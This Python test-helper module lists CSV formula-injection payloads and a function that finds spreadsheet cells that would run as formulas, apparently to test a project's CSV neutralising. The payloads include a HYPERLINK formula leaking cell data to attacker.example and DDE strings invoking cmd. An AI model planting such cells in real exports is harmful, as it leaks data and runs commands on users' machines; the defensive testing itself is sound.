"""Cells a spreadsheet would run as formulas, for the tests of every CSV the project writes."""

from __future__ import annotations

import csv
import io

from sclab.csv_cells import FORMULA_STARTS

__all__ = ["PAYLOADS", "csv_rows", "runnable_cells"]

#: OWASP's examples and the issue's, at least one for each first character a spreadsheet runs.
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_rows(text: str) -> list[list[str]]:
    """The rows of CSV ``text`` as a spreadsheet's importer splits them (quoted line breaks kept)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def runnable_cells(text: str) -> list[str]:
    """Every cell (headers included) of CSV ``text`` that a spreadsheet would run as a formula.

    A cell that is a plain number after its sign (``-3``) is read as that number, so it is not listed.
    """
    from sclab.csv_cells import neutralise

    return [c for row in csv_rows(text) for c in row if c.startswith(FORMULA_STARTS) and neutralise(c) != c]
